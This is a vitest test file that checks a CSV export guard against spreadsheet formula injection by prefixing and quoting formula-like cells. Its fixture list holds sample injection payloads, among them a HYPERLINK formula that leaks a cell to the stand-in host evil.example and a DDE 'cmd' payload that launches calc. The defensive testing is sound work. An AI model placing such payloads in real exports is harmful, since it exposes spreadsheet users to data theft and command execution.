import { describe, expect, it } from "vitest";
import type { PageSchema } from "@/features/admin-tables/contracts";
import { csvStream } from "@/features/admin-tables/server/query";
import { csvField, looksLikeFormula } from "@/lib/core/text/csv";

const FORMULAS = [
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
];

describe("CSV exports never hand a spreadsheet a formula", () => {
  it("prefixes every formula-looking cell (=, +, -, @, and a leading tab or carriage return) and keeps it text", () => {
    for (const cell of FORMULAS) {
      expect(looksLikeFormula(cell), JSON.stringify(cell)).toBe(true);
      const field = csvField(cell);
      expect(field.startsWith(`"'`), JSON.stringify(field)).toBe(true);
      // Unquoted and un-doubled, it is the original text behind the apostrophe.
      expect(field.slice(2, -1).replace(/""/g, '"')).toBe(cell);
    }
  });

  it("leaves ordinary cells alone, quoting only what CSV needs", () => {
    expect(csvField("Acme")).toBe("Acme");
    expect(csvField("1.25")).toBe("1.25");
    expect(csvField("a, b")).toBe('"a, b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField("x=1")).toBe("x=1");
  });

  it("an admin page's export uses the guard on every cell, tab and carriage return included", async () => {
    const page = {
      key: "p",
      columns: [{ field: "v", label: { en: "V", zh: "V" }, cell: "text" }],
    } as unknown as PageSchema;
    async function* rows() {
      for (const v of FORMULAS) yield { v };
    }
    const text = await new Response(
      await csvStream(page, rows(), { superAdmin: false, locale: "en", requestId: "r" }),
    ).text();
    const fields = text.split("\n").slice(1, -1);
    // Each data line starts with the quoted, apostrophe-prefixed cell (the \r one spans a quoted line break).
    for (const cell of FORMULAS) expect(text).toContain(csvField(cell));
    for (const field of fields) if (field) expect(field.startsWith(`"'`), JSON.stringify(field)).toBe(true);
  });
});
